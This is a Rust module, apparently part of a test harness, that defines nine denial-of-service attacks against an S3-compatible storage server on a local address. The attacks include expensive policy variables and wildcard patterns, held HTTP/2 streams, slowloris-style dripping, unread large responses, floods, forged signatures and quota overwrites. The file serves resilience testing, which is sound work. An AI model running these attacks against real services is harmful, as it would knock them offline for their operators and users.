//! The attacks, and who makes them.

use crate::contender::Contender;
use crate::workload::BUCKET;
use anyhow::{Context, Result, ensure};
use cofre_harness::http2::Http2;
use cofre_harness::{Connection, Fill, Payload, Request, Response, Signer};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

/// Where the attacker comes from: another address than that of the other clients.
const ADDRESS: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 2));
/// Threads that attack at once.
const THREADS: usize = 8;
/// Connections that are held open where that is the attack.
const HELD: usize = 400;
/// Streams of an HTTP/2 connection that are begun at once.
const STREAMS: usize = 128;
/// The attacker's own bucket.
const OWN: &str = "attacker";
/// Time between two bytes of a slow sender.
const DRIP: Duration = Duration::from_millis(200);

/// One attack.
pub struct Way {
    pub name: &'static str,
    pub prepare: fn(&Attacker<'_>) -> Result<()>,
    pub attack: fn(&Attacker<'_>, &AtomicBool) -> Result<()>,
}

/// In the order in which they run.
pub const ALL: [Way; 9] = [
    Way { name: "policy-variables", prepare: put_variables, attack: ask_for_variables },
    Way { name: "policy-patterns", prepare: put_patterns, attack: delete_by_patterns },
    Way { name: "anonymous-bodies", prepare: nothing, attack: send_bodies },
    Way { name: "empty-parts", prepare: nothing, attack: complete_of_nothing },
    Way { name: "no-reading", prepare: put_large, attack: read_nothing },
    Way { name: "slow-senders", prepare: nothing, attack: drip },
    Way { name: "anonymous-flood", prepare: nothing, attack: flood },
    Way { name: "forged-signatures", prepare: nothing, attack: forge },
    Way { name: "over-quota", prepare: set_quota, attack: overwrite },
];

/// A client with an address, an account and a bucket.
pub struct Attacker<'a> {
    cofre: &'a Contender,
    signer: Signer,
    address: SocketAddr,
    runtime: tokio::runtime::Runtime,
}

impl<'a> Attacker<'a> {
    /// One of this server.
    pub fn new(cofre: &'a Contender) -> Result<Self> {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
        let signer = cofre.account(OWN)?;
        let attacker = Self { cofre, signer, address: cofre.address, runtime };
        attacker.succeed(Request::new("PUT", &format!("/{OWN}")))?;
        Ok(attacker)
    }

    fn socket(&self) -> Result<TcpStream> {
        let connect = async {
            let socket = tokio::net::TcpSocket::new_v4()?;
            socket.bind(SocketAddr::new(ADDRESS, 0))?;
            socket.connect(self.address).await?.into_std()
        };
        let stream = self.runtime.block_on(connect).context("connect")?;
        stream.set_nonblocking(false)?;
        Ok(stream)
    }

    fn connect(&self) -> Result<Connection> {
        Connection::over(self.socket()?)
    }

    fn request(&self, method: &str, target: &str) -> Request {
        Request::new(method, target).header("host", &self.address.to_string())
    }

    fn sign(&self, request: Request) -> Request {
        self.signer.sign(request, Payload::Signed)
    }

    fn succeed(&self, request: Request) -> Result<Response> {
        let request = request.header("host", &self.address.to_string());
        let response = self.connect()?.exchange(&self.sign(request))?;
        ensure!(response.status < 300, "{} {}", response.status, response.text());
        Ok(response)
    }

    fn put_policy(&self, policy: &str) -> Result<()> {
        self.succeed(Request::new("PUT", &format!("/{OWN}?policy")).body(policy)).map(drop)
    }

    /// Sends a request over and over, over connections that are opened again when they are closed, from many threads.
    fn repeat(&self, stop: &AtomicBool, make: impl Fn(u64) -> Request + Sync) -> Result<()> {
        let connections = (0..THREADS).map(|_| self.connect()).collect::<Result<Vec<_>>>()?;
        std::thread::scope(|scope| {
            for (number, mut connection) in connections.into_iter().enumerate() {
                let make = &make;
                scope.spawn(move || {
                    let mut turn = number as u64;
                    while !stop.load(Ordering::Relaxed) {
                        // Refusals are what it gets; a connection that is closed is replaced.
                        if connection.exchange(&make(turn)).is_err() {
                            match Connection::open(self.address) {
                                Ok(fresh) => connection = fresh,
                                Err(_) => std::thread::sleep(DRIP),
                            }
                        }
                        turn += THREADS as u64;
                    }
                });
            }
        });
        Ok(())
    }
}

fn nothing(_: &Attacker<'_>) -> Result<()> {
    Ok(())
}

/// Waits for the end of the attack.
fn wait(stop: &AtomicBool) {
    while !stop.load(Ordering::Relaxed) {
        std::thread::sleep(DRIP);
    }
}

/// Holds what is begun, and begins more in place of what is refused.
fn hold<T>(stop: &AtomicBool, count: usize, begin: impl Fn() -> Result<T>) -> Result<()> {
    while !stop.load(Ordering::Relaxed) {
        let held: Vec<_> =
            (0..count).map_while(|_| if stop.load(Ordering::Relaxed) { None } else { begin().ok() }).collect();
        for _ in 0..10 {
            if !stop.load(Ordering::Relaxed) {
                std::thread::sleep(DRIP);
            }
        }
        drop(held);
    }
    wait(stop);
    Ok(())
}

/// Variables of a policy that expand to gigabytes. A policy that is refused is no attack.
fn put_variables(attacker: &Attacker<'_>) -> Result<()> {
    let resource = "${aws:UserAgent}".repeat(1_100);
    let policy = format!(
        r#"{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"arn:aws:s3:::{OWN}/{resource}"}}]}}"#
    );
    attacker.put_policy(&policy).or_else(|error| refused("policy-variables", &error))
}

fn refused(name: &str, error: &anyhow::Error) -> Result<()> {
    println!("{name}: what prepares it is refused: {error}");
    Ok(())
}

fn ask_for_variables(attacker: &Attacker<'_>, stop: &AtomicBool) -> Result<()> {
    let agent = "a".repeat(15_000);
    attacker.repeat(stop, |_| attacker.request("GET", &format!("/{OWN}/k")).header("user-agent", &agent))
}

fn put_patterns(attacker: &Attacker<'_>) -> Result<()> {
    let pattern = format!("{}b", "*a".repeat(2_000));
    let policy = format!(
        r#"{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Principal":"*","Action":"s3:DeleteObject","Resource":"arn:aws:s3:::{OWN}/*","Condition":{{"StringLike":{{"aws:UserAgent":"{pattern}"}}}}}}]}}"#
    );
    attacker.put_policy(&policy).or_else(|error| refused("policy-patterns", &error))
}

fn delete_by_patterns(attacker: &Attacker<'_>, stop: &AtomicBool) -> Result<()> {
    let agent = "a".repeat(10_000);
    let keys: String = (0..1_000).map(|key| format!("<Object><Key>{key}</Key></Object>")).collect();
    let body = format!("<Delete>{keys}</Delete>");
    let digest = cofre_harness::sha256_base64(body.as_bytes());
    attacker.repeat(stop, |_| {
        attacker
            .request("POST", &format!("/{OWN}?delete"))
            .header("user-agent", &agent)
            .header("x-amz-checksum-sha256", &digest)
            .body(body.clone())
    })
}

/// Streams of anonymous requests whose bodies are gathered.
fn send_bodies(attacker: &Attacker<'_>, stop: &AtomicBool) -> Result<()> {
    let piece = vec![b' '; 64 << 10];
    hold(stop, THREADS, || {
        let mut client = Http2::over(attacker.socket()?)?;
        let request = attacker.request("POST", &format!("/{BUCKET}?delete")).header("content-length", "6291456");
        let streams = (0..STREAMS).map(|_| client.request(&request, false)).collect::<Result<Vec<_>>>()?;
        for stream in streams {
            client.data(stream, &piece, false)?;
        }
        Ok(client)
    })
}

fn complete_of_nothing(attacker: &Attacker<'_>, stop: &AtomicBool) -> Result<()> {
    let begun = attacker.succeed(Request::new("POST", &format!("/{OWN}/k?uploads")))?;
    let upload = begun.element("UploadId").context("an upload")?;
    let body = format!("<CompleteMultipartUpload>{}</CompleteMultipartUpload>", "<Part></Part>".repeat(300_000));
    attacker.repeat(stop, |_| {
        attacker.sign(attacker.request("POST", &format!("/{OWN}/k?uploadId={upload}")).body(body.clone()))
    })
}

fn put_large(attacker: &Attacker<'_>) -> Result<()> {
    attacker.succeed(Request::new("PUT", &format!("/{OWN}/large")).body(Fill(3).bytes(32 << 20))).map(drop)
}

fn read_nothing(attacker: &Attacker<'_>, stop: &AtomicBool) -> Result<()> {
    let request = || attacker.sign(attacker.request("GET", &format!("/{OWN}/large")));
    hold(stop, HELD, || {
        let mut connection = attacker.connect()?;
        connection.send(&request())?;
        Ok(connection)
    })
}

fn drip(attacker: &Attacker<'_>, stop: &AtomicBool) -> Result<()> {
    let begin = |number: usize| {
        let mut connection = attacker.connect()?;
        if number.is_multiple_of(2) {
            connection.write(b"GET / HTTP/1.1\r\nhost: a\r\nx-slow: ")?;
        } else {
            let request = attacker.request("PUT", &format!("/{OWN}/slow")).header("content-length", "1000000");
            connection.write(attacker.signer.sign(request, Payload::Unsigned).head().as_bytes())?;
        }
        anyhow::Ok(connection)
    };
    let mut held = Vec::new();
    while !stop.load(Ordering::Relaxed) {
        held.retain_mut(|connection: &mut Connection| connection.write(b"x").is_ok());
        while held.len() < 4 * HELD && !stop.load(Ordering::Relaxed) {
            match begin(held.len()) {
                Ok(connection) => held.push(connection),
                Err(_) => break,
            }
        }
        std::thread::sleep(DRIP);
    }
    Ok(())
}

fn flood(attacker: &Attacker<'_>, stop: &AtomicBool) -> Result<()> {
    attacker.repeat(stop, |turn| attacker.request("GET", &format!("/{BUCKET}/{turn}")))
}

fn forge(attacker: &Attacker<'_>, stop: &AtomicBool) -> Result<()> {
    let forger = Signer::new(&attacker.signer.access_key, "a secret that is not the one of this key");
    attacker.repeat(stop, |turn| forger.sign(attacker.request("GET", &format!("/{BUCKET}/{turn}")), Payload::Signed))
}

fn set_quota(attacker: &Attacker<'_>) -> Result<()> {
    attacker.succeed(Request::new("DELETE", &format!("/{OWN}/large"))).map(drop)?;
    attacker.cofre.admin(&["account", "quota", OWN, "--bytes-max", "2097152"]).map(drop)
}

fn overwrite(attacker: &Attacker<'_>, stop: &AtomicBool) -> Result<()> {
    let body = Fill(8).bytes(1 << 20);
    attacker.repeat(stop, |turn| {
        attacker.sign(attacker.request("PUT", &format!("/{OWN}/over-{}", turn % 2)).body(body.clone()))
    })
}
